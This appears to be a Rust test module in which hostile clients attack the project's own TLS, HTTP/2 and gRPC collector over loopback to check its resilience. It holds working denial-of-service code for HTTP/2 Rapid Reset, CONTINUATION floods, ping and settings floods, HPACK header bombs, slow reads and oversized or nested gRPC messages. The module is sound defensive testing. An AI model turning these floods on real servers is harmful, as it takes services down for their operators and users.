//! Clients that mean harm, one kind for each way to hurt a server that speaks TLS, HTTP/2 and gRPC. Loopback alone.

use std::io;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use daicho_agent::address::Address;
use daicho_agent::identity::Identity;
use daicho_agent::uplink::connection;
use http_body_util::Full;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{Instant, timeout_at};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use tonic::body::Body;
use tonic::client::GrpcService as _;
use tonic::codegen::Bytes;

mod frames;

pub use frames::Heard;
use frames::*;

/// A way to hurt.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Bytes of chance on the port.
    RandomBytes,
    /// A connection that says nothing, or half a greeting of TLS.
    HalfHandshake,
    /// Bytes of chance after a whole handshake.
    RandomAfterHandshake,
    /// A handshake, and then silence.
    Silence,
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Headers that never end (CVE-2024-27316).
    Continuations,
    /// Pings without end (CVE-2019-9512).
    Pings,
    /// Settings without end (CVE-2019-9515).
    Settings,
    /// Data frames without data (CVE-2019-9518).
    EmptyData,
    /// A list of headers that grows from one byte to four thousand each (HPACK).
    HeaderBomb,
    /// A window beyond what HTTP/2 allows.
    WindowOverflow,
    /// Requests whose answers nobody reads (CVE-2019-9517).
    SlowRead,
    /// A request that comes byte by byte.
    SlowWrite,
    /// A message that says it has 4 GB.
    HugeLength,
    /// Groups within groups, a hundred thousand deep.
    DeepNesting,
    /// A message that says it is compressed.
    CompressedBomb,
    /// Two megabytes that ask for half a gigabyte once they are read.
    HeavyReport,
    /// Requests as fast as they go.
    ManyRequests,
}

/// All of them.
pub const ATTACKS: [Attack; 18] = [
    Attack::RandomBytes,
    Attack::HalfHandshake,
    Attack::RandomAfterHandshake,
    Attack::Silence,
    Attack::RapidReset,
    Attack::Continuations,
    Attack::Pings,
    Attack::Settings,
    Attack::EmptyData,
    Attack::HeaderBomb,
    Attack::WindowOverflow,
    Attack::SlowRead,
    Attack::SlowWrite,
    Attack::HugeLength,
    Attack::DeepNesting,
    Attack::CompressedBomb,
    Attack::HeavyReport,
    Attack::ManyRequests,
];

/// What came of one.
#[derive(Clone, Debug)]
pub enum Outcome {
    /// Nobody was let in.
    NotLetIn,
    /// What came back on the connection.
    Heard(Heard),
    /// gRPC's status of each answer.
    Answered(Vec<String>),
}

/// Who attacks whom.
#[derive(Clone, Copy)]
pub struct Attacker<'a> {
    /// The collector.
    pub target: SocketAddr,
    /// The attacker's own address, in 127.0.0.0/8.
    pub from: IpAddr,
    /// Whose machine was stolen. Its roots are trusted in any case.
    pub identity: &'a Identity,
    /// Whether its certificate is shown.
    pub shown: bool,
}

impl Attacker<'_> {
    /// Attacks once, until it is over or time is.
    pub async fn attack(
        &self,
        attack: Attack,
        chance: &mut fastrand::Rng,
        until: Instant,
    ) -> anyhow::Result<Outcome> {
        match attack {
            Attack::RandomBytes | Attack::HalfHandshake => self.at_the_door(attack, chance, until).await,
            Attack::HugeLength
            | Attack::DeepNesting
            | Attack::CompressedBomb
            | Attack::HeavyReport
            | Attack::ManyRequests => self.with_messages(attack, until).await,
            _ => match timeout_at(until, self.shake_hands()).await {
                Ok(Ok(stream)) => Ok(Outcome::Heard(self.on_the_line(stream, attack, chance, until).await)),
                Ok(Err(_)) | Err(_) => Ok(Outcome::NotLetIn),
            },
        }
    }

    fn path(&self) -> &'static str {
        if self.shown { "/daicho.v1.Intake/Report" } else { "/daicho.v1.Enrolment/Enrol" }
    }

    async fn call(&self) -> io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.bind(SocketAddr::new(self.from, 0))?;
        socket.connect(self.target).await
    }

    fn tls(&self) -> anyhow::Result<Arc<rustls::ClientConfig>> {
        let mut tls = self.identity.tls(daicho_agent::clock::system())?;
        if !self.shown {
            let mut trusted = rustls::RootCertStore::empty();
            for root in &self.identity.roots {
                trusted.add(root.clone())?;
            }
            let provider = Arc::new(rustls::crypto::ring::default_provider());
            tls = rustls::ClientConfig::builder_with_provider(provider)
                .with_protocol_versions(&[&rustls::version::TLS13])?
                .with_root_certificates(trusted)
                .with_no_client_auth();
            tls.alpn_protocols = vec![b"h2".to_vec()];
        }
        Ok(Arc::new(tls))
    }

    async fn shake_hands(&self) -> anyhow::Result<TlsStream<TcpStream>> {
        let name = self.identity.collector.server_name();
        Ok(TlsConnector::from(self.tls()?).connect(name, self.call().await?).await?)
    }

    async fn at_the_door(
        &self,
        attack: Attack,
        chance: &mut fastrand::Rng,
        until: Instant,
    ) -> anyhow::Result<Outcome> {
        let Ok(mut stream) = self.call().await else { return Ok(Outcome::NotLetIn) };
        let mut bytes = vec![0; chance.usize(1..4_096)];
        chance.fill(&mut bytes);
        if attack == Attack::HalfHandshake {
            // A record of handshake, 512 bytes long, of which some come.
            bytes.truncate(chance.usize(0..100));
            bytes.splice(..0, [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc]);
        }
        let _ = stream.write_all(&bytes).await;
        let ended = timeout_at(until, async {
            while stream.read(&mut [0; 512]).await.is_ok_and(|count| count > 0) {}
        });
        let closed = ended.await.is_ok();
        Ok(if closed { Outcome::NotLetIn } else { Outcome::Heard(Heard::default()) })
    }

    async fn on_the_line(
        &self,
        stream: TlsStream<TcpStream>,
        attack: Attack,
        chance: &mut fastrand::Rng,
        until: Instant,
    ) -> Heard {
        let path = self.path();
        let stream_of = |round: u32| round.wrapping_mul(2).wrapping_add(1) & 0x7fff_ffff;
        let open = |stream| frame(HEADERS, END_HEADERS, stream, &request(path));
        // Some hundred at once: as much as an attacker gains by it.
        let many = |one: Vec<u8>| one.repeat(256);
        match attack {
            Attack::RandomAfterHandshake => {
                let mut bytes = vec![0; 2_048];
                chance.fill(&mut bytes);
                flood(stream, until, |_| Some(bytes.clone())).await
            }
            Attack::RapidReset => {
                flood(stream, until, |round| {
                    let reset = |stream| frame(RST_STREAM, 0, stream, &8u32.to_be_bytes());
                    let numbers = (0..64).map(|more| stream_of(round * 64 + more));
                    Some(numbers.flat_map(|number| [open(number), reset(number)].concat()).collect())
                })
                .await
            }
            Attack::Continuations => {
                let filler = header("x", &"y".repeat(100));
                flood(stream, until, |round| {
                    let kind = if round == 0 { HEADERS } else { CONTINUATION };
                    Some(frame(kind, 0, 1, &if round == 0 { request(path) } else { filler.repeat(9) }))
                })
                .await
            }
            Attack::Pings => flood(stream, until, |_| Some(many(frame(PING, 0, 0, &[7; 8])))).await,
            Attack::Settings => flood(stream, until, |_| Some(many(frame(SETTINGS, 0, 0, &[])))).await,
            Attack::EmptyData => {
                flood(stream, until, |round| {
                    Some(if round == 0 { open(1) } else { many(frame(DATA, 0, 1, &[])) })
                })
                .await
            }
            Attack::HeaderBomb => {
                // One header of 4 000 bytes goes into the table (RFC 7541 6.2.1), then one byte each names it again.
                let mut block = request(path);
                let mut kept = header("x", &"y".repeat(4_000));
                kept[0] = 0x40;
                block.extend(kept);
                block.extend([0xbe; 12_000]);
                flood(stream, until, |round| Some(frame(HEADERS, END_HEADERS, stream_of(round), &block)))
                    .await
            }
            Attack::WindowOverflow => {
                let most = frame(WINDOW_UPDATE, 0, 0, &0x7fff_ffffu32.to_be_bytes());
                flood(stream, until, |round| (round < 2).then(|| most.clone())).await
            }
            Attack::SlowRead => {
                // SETTINGS_INITIAL_WINDOW_SIZE 0: no byte of an answer may be sent.
                let closed_window = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
                let asked = |round| {
                    let end = frame(DATA, 1, stream_of(round), &[0, 0, 0, 0, 0]);
                    [open(stream_of(round)), end, frame(PING, 0, 0, &[7; 8])].concat()
                };
                deaf(stream, until, |round| if round == 0 { closed_window.clone() } else { asked(round) })
                    .await
            }
            Attack::SlowWrite => {
                let (path, mut begun) = (open(1), false);
                let heard = flood(stream, until, |_| {
                    if begun {
                        return None;
                    }
                    begun = true;
                    Some([path.clone(), frame(DATA, 0, 1, &[0, 0, 0, 4, 0, 1, 2])].concat())
                });
                heard.await
            }
            // Silence, and whatever is not written on the line.
            _ => flood(stream, until, |_| None).await,
        }
    }

    async fn with_messages(&self, attack: Attack, until: Instant) -> anyhow::Result<Outcome> {
        let address: Address =
            format!("localhost:{}", self.target.port()).parse().map_err(|_| anyhow::anyhow!("no address"))?;
        let Ok(connection) = connection::connect(&address, self.tls()?).await else {
            return Ok(Outcome::NotLetIn);
        };
        let (flag, message, claimed) = match attack {
            Attack::HugeLength => (0, vec![0; 64], u32::MAX),
            Attack::DeepNesting => (0, vec![0x7b; 50_000], 50_000),
            Attack::CompressedBomb => (1, vec![0x1f; 1_000], 1_000),
            Attack::HeavyReport => {
                let message = heavy_report();
                let length = u32::try_from(message.len())?;
                (0, message, length)
            }
            _ => (0, Vec::new(), 0),
        };
        let mut body = vec![flag];
        body.extend(claimed.to_be_bytes());
        body.extend(message);
        let body = Bytes::from(body);
        let times = if attack == Attack::ManyRequests { 1_000 } else { 1 };
        let mut asking = tokio::task::JoinSet::new();
        for _ in 0..times {
            let mut channel = connection.channel.clone();
            let encoding = if attack == Attack::CompressedBomb { "gzip" } else { "identity" };
            let request = http::Request::post(format!("http://{address}{}", self.path()))
                .header("content-type", "application/grpc")
                .header("te", "trailers")
                .header("grpc-encoding", encoding)
                .body(Body::new(Full::new(body.clone())))?;
            asking.spawn(async move {
                std::future::poll_fn(|context| channel.poll_ready(context)).await.ok()?;
                let answer = channel.call(request).await.ok()?;
                status_of(answer).await
            });
        }
        let mut statuses = Vec::new();
        while let Ok(Some(status)) = timeout_at(until, asking.join_next()).await {
            statuses.push(status.ok().flatten().unwrap_or_else(|| "cut".to_owned()));
        }
        Ok(Outcome::Answered(statuses))
    }
}

/// `14 the collector cannot write`: gRPC's code and sentence, in the headers or behind the message.
async fn status_of(answer: http::Response<Body>) -> Option<String> {
    let told = |headers: &http::HeaderMap| {
        let text = |name: &str| headers.get(name).and_then(|value| value.to_str().ok());
        Some(format!("{} {}", text("grpc-status")?, text("grpc-message").unwrap_or_default()))
    };
    let (head, body) = answer.into_parts();
    if let Some(status) = told(&head.headers) {
        return Some(status);
    }
    let collected = http_body_util::BodyExt::collect(body).await.ok()?;
    collected.trailers().and_then(told)
}

/// A report of a million packages without a name.
fn heavy_report() -> Vec<u8> {
    let nested = |tag: u8, inner: Vec<u8>| {
        let mut bytes = vec![tag];
        let mut rest = inner.len();
        while rest >= 128 {
            bytes.push(u8::try_from(rest % 128).unwrap_or(0) | 128);
            rest /= 128;
        }
        bytes.push(u8::try_from(rest).unwrap_or(0));
        bytes.extend(inner);
        bytes
    };
    nested(0x12, nested(0x62, [0x1a, 0x00].repeat(1_000_000)))
}

/// How long one attack may last before its client begins another: longer than a stranger may stay.
pub const ATTACK_TIME_MAX: Duration = Duration::from_secs(45);
